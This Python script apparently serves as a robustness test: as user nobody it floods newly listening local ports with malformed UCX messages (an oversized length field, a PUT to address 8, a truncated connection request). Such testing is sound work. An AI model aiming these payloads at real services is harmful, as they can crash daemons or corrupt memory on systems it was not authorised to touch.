# SPDX-License-Identifier: Apache-2.0
"""Attacks the ports of flows on this host: `flow_attack.py PORT_TO_SPARE...`.

As user nobody it connects to every port that begins to listen. Half of the connections say at once
what UCX does not survive, the others when a line comes on stdin. Prints READY, and at the end how
many ports it has seen.
"""

import contextlib
import os
import pathlib
import select
import socket
import struct
import sys

NOBODY = 65534
LISTENS = "0A"
CONNECTIONS_PER_PORT = 6
PAUSE_S = 0.001
MAGIC = struct.pack("<Q", 0xCAFEBABE12345678)
PUT_REQUEST, CONNECTION = 33, 32


def message(kind: int, announced: int, body: bytes) -> bytes:
    return MAGIC + struct.pack("<BI", kind, announced) + body


WORDS = (
    # Longer than any buffer: UCX 1.13 aborts, later ones write beyond it.
    message(1, 0xFFFFFF00, bytes(1 << 16)),
    # "Write this at address 8."
    message(PUT_REQUEST, 20, struct.pack("<QQI", 8, 64, 1) + bytes(64)),
    # A connection request that ends before it says from whom.
    message(CONNECTION, 1, b"\1") + bytes(64),
)


def listening() -> set[tuple[str, int]]:
    found = set()
    for line in pathlib.Path("/proc/net/tcp").read_text().splitlines()[1:]:
        _, local, _, state = line.split()[:4]
        if state != LISTENS:
            continue
        address, port = local.split(":")
        host = socket.inet_ntoa(struct.pack("<I", int(address, 16)))
        found.add((host, int(port, 16)))
    return found


def connect(where: tuple[str, int]) -> socket.socket:
    door = socket.socket()
    door.setblocking(False)
    with contextlib.suppress(OSError):
        door.connect(where)
    return door


def speak(doors: list[tuple[socket.socket, bytes]]) -> list[tuple[socket.socket, bytes]]:
    """Those that are not through yet stay for the next time."""
    left = []
    for door, words in doors:
        try:
            door.send(words)
        except (BlockingIOError, BrokenPipeError, ConnectionError, TimeoutError):
            left.append((door, words))
        except OSError:
            door.close()
    return left


def attack(spared: set[int]) -> int:
    known = {where for where in listening() if where[1] in spared}
    hasty: list[tuple[socket.socket, bytes]] = []
    patient: list[tuple[socket.socket, bytes]] = []
    while not select.select([sys.stdin], [], [], PAUSE_S)[0]:
        for where in listening() - known:
            known.add(where)
            for number in range(CONNECTIONS_PER_PORT):
                words = WORDS[number // 2 % len(WORDS)]
                (patient if number % 2 else hasty).append((connect(where), words))
        hasty = speak(hasty)
    speak(patient)
    return len(known) - len(spared)


if __name__ == "__main__":
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    print("READY", flush=True)
    print(attack({int(port) for port in sys.argv[1:]}), flush=True)
    sys.stdin.read()  # the connections stay until the daemon has heard it all
